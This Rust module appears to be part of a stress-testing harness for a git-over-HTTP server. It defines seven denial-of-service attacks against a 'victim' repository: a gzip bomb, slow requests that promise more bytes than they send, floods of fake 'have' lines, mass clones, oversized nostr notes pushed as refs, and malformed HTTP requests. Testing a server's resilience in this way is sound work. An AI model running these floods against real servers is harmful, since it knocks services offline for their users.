//! Attacks by HTTP alone: requests of git and of browsers that are small, and dear to answer.

use std::fmt::Write as _;

use async_compression::tokio::write::GzipEncoder;
use nostr::event::Event;
use nostr::event::EventBuilder;
use nostr::event::FinalizeEvent;
use nostr::event::Kind;
use nostr::key::Keys;
use tokio::io::AsyncWriteExt;

use crate::siege::attack::Assault;
use crate::siege::attack::Attack;
use crate::siege::attack::BOTH;
use crate::siege::attack::PAUSE;
use crate::siege::attack::Route;
use crate::siege::attack::side_by_side;
use crate::siege::attacker::Attacker;
use crate::siege::attacker::Command;
use crate::siege::attacker::Request;
use crate::siege::attacker::coordinate;
use crate::siege::attacker::pkt_line;
use crate::siege::attacker::push_body;
use crate::siege::websocket::send_all;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "prefixes",
        does: "asks for refs with 65,536 long prefixes as gzip, and does not end the request, on 60 connections",
        costs: "19 KB for each",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(prefixes(attacker)),
    },
    Attack {
        name: "large-events-by-refs",
        does: "pushes to no repository 400 `refs/nostr/<id>` of large notes that are served",
        costs: "80 MB of notes, and then 64 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(large_events_by_refs(attacker)),
    },
    Attack {
        name: "gzip-bomb",
        does: "requests for a fetch of 1 GB that is 1 MB as gzip, and refused pushes of 256 MB, four at a time",
        costs: "1 MB or 260 KB a request",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(gzip_bomb(attacker)),
    },
    Attack {
        name: "haves",
        does: "fetches with 100,000 commits that nobody has, two at a time",
        costs: "5 MB a request",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(haves(attacker)),
    },
    Attack {
        name: "clones",
        does: "clones the victim's repository, four at a time",
        costs: "200 bytes a clone",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(clones(attacker)),
    },
    Attack {
        name: "pages-of-nothing",
        does: "asks for pages and refs of repositories that do not exist, four at a time",
        costs: "small requests",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(pages_of_nothing(attacker)),
    },
    Attack {
        name: "strange-requests",
        does: "CONNECT, targets that are no path, unknown methods, and heads of 60 KB",
        costs: "small requests",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(strange_requests(attacker)),
    },
];

/// Makes requests in turn, on so many connections at a time.
pub(super) fn in_turn(attacker: Attacker, lanes: usize, requests: Vec<Request>) -> Assault {
    Box::pin(async move {
        side_by_side(lanes, |lane| {
            let (attacker, requests) = (attacker.clone(), requests.clone());
            async move {
                for request in requests.iter().cycle().skip(lane) {
                    if attacker.request(request).await.is_none() {
                        tokio::time::sleep(PAUSE).await;
                    }
                }
            }
        })
        .await;
    })
}

async fn prefixes(attacker: Attacker) -> Assault {
    let line = pkt_line(&format!("ref-prefix refs/heads/{}\n", "a".repeat(90)));
    let text = format!("{}0001{}", pkt_line("command=ls-refs\n"), line.repeat(65_536));
    let body = gzip(text.as_bytes()).await;
    let length = body.len();
    let fields = "git-protocol: version=2\r\ncontent-encoding: gzip\r\n";
    let mut request = Request::service(&attacker.victim.path, "git-upload-pack", fields, body);
    // More is promised than is sent: the server keeps what it was told.
    let promised = format!("content-length: {}\r\n", length + 9);
    request.fields = request
        .fields
        .replace(&format!("content-length: {length}\r\n"), &promised);
    Box::pin(async move {
        side_by_side(60, |_| {
            let (attacker, request) = (attacker.clone(), request.clone());
            async move {
                loop {
                    if let Some(socket) = attacker.begin(None, &request).await {
                        let answered = socket.readable().await.is_ok();
                        attacker
                            .effort
                            .answered(if answered { "an answer" } else { "the connection failed" });
                    }
                    tokio::time::sleep(5 * PAUSE).await;
                }
            }
        })
        .await;
    })
}

async fn large_events_by_refs(attacker: Attacker) -> Assault {
    let author = Keys::generate();
    let note = |number| {
        let content = format!("{number}{}", "x".repeat(200_000));
        EventBuilder::new(Kind::TextNote, content).finalize(&author).unwrap()
    };
    let notes: Vec<Event> = (0..400).map(note).collect();
    send_all(&attacker, &notes).await;
    let commands: Vec<_> = notes
        .iter()
        .map(|note| Command::pull_request(&note.id.to_hex(), &"1".repeat(40)))
        .collect();
    let nowhere = wire::path::repository_path(&coordinate(&Keys::generate(), "nothing"));
    let request = Request::service(&nowhere, "git-receive-pack", "", push_body(&commands, b""));
    in_turn(attacker, 2, vec![request])
}

async fn gzip_bomb(attacker: Attacker) -> Assault {
    // Blocks of gzip may follow each other (RFC 1952 2.2).
    let block = gzip(&vec![b'0'; 16 << 20]).await;
    let body = block.repeat(64);
    let fields = "git-protocol: version=2\r\ncontent-encoding: gzip\r\n";
    let fetch = Request::service(&attacker.victim.path, "git-upload-pack", fields, body);
    // In one block, of which the first line is no command.
    let mut malformed = b"0009large".to_vec();
    malformed.resize(256 << 20, b'0');
    let push = Request::service(
        &attacker.victim.path,
        "git-receive-pack",
        "content-encoding: gzip\r\n",
        gzip(&malformed).await,
    );
    in_turn(attacker, 4, vec![fetch, push])
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn haves(attacker: Attacker) -> Assault {
    let mut body = format!("{}0001", pkt_line("command=fetch\n"));
    body.push_str(&pkt_line(&format!("want {}\n", attacker.victim.tip)));
    for number in 1..=100_000 {
        write!(body, "{}", pkt_line(&format!("have {number:040x}\n"))).unwrap();
    }
    body.push_str("0000");
    let fields = "git-protocol: version=2\r\n";
    let request = Request::service(&attacker.victim.path, "git-upload-pack", fields, body.into_bytes());
    in_turn(attacker, 2, vec![request])
}

/// A request for a clone that has this commit.
pub(super) fn clone_request(path: &str, commit: &str) -> Request {
    let body = [
        &pkt_line("command=fetch\n"),
        "0001",
        &pkt_line("no-progress\n"),
        &pkt_line(&format!("want {commit}\n")),
        &pkt_line("done\n"),
        "0000",
    ]
    .concat();
    Request::service(
        path,
        "git-upload-pack",
        "git-protocol: version=2\r\n",
        body.into_bytes(),
    )
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn clones(attacker: Attacker) -> Assault {
    let request = clone_request(&attacker.victim.path, &attacker.victim.tip);
    in_turn(attacker, 4, vec![request])
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn pages_of_nothing(attacker: Attacker) -> Assault {
    let identifier = attacker.victim.identifier();
    let mut requests = Vec::new();
    for name in (0..500).map(|number| format!("nothing-{number}")).chain([identifier]) {
        let path = wire::path::repository_path(&coordinate(&Keys::generate(), &name));
        requests.push(Request::get(&path));
        requests.push(Request::get(&format!("{path}/info/refs?service=git-upload-pack")));
        requests.push(Request::get(&format!("{path}/info/refs?service=git-receive-pack")));
    }
    in_turn(attacker, 4, requests)
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn strange_requests(attacker: Attacker) -> Assault {
    let line = |line: &str| Request {
        line: line.to_owned(),
        ..Request::get("/")
    };
    let requests = vec![
        line("CONNECT elsewhere.example:443"),
        line("OPTIONS *"),
        line("BREW /"),
        line("GET http://elsewhere.example/"),
        Request {
            fields: format!("x-long: {}\r\n", "x".repeat(60_000)),
            ..Request::get("/")
        },
        Request {
            fields: (0..99).map(|number| format!("x-{number}: y\r\n")).collect(),
            ..Request::get("/")
        },
    ];
    in_turn(attacker, 4, requests)
}

pub(super) async fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzipEncoder::new(Vec::new());
    encoder.write_all(bytes).await.unwrap();
    encoder.shutdown().await.unwrap();
    encoder.into_inner()
}
